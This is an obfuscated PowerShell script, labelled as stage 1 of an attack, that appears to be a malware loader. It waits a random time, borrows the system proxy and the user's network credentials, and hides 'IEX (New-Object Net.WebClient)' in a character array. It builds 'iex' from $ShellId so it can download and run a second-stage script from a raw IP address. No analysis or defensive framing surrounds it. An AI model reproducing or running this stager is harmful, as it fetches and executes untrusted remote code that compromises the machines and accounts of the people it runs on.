# stage 1 - jitter, use the system proxy, then pull stage 2
Start-Sleep -Seconds (Get-Random -Minimum 30 -Maximum 90)
$proxy = [System.Net.WebRequest]::DefaultWebProxy
$proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
[System.Net.WebRequest]::DefaultWebProxy = $proxy
$k = [string]::new([char[]](73, 69, 88, 32, 40, 78, 101, 119, 45, 79, 98, 106, 101, 99, 116, 32, 78, 101, 116, 46, 87, 101, 98, 67, 108, 105, 101, 110, 116, 41))
$tail = '.DownloadString(''http://185.220.101.7/a.ps1'')'
&($ShellId[1] + $ShellId[13] + 'x') ($k + $tail)
if (-not $?) {
    Start-Sleep -Seconds 300
}
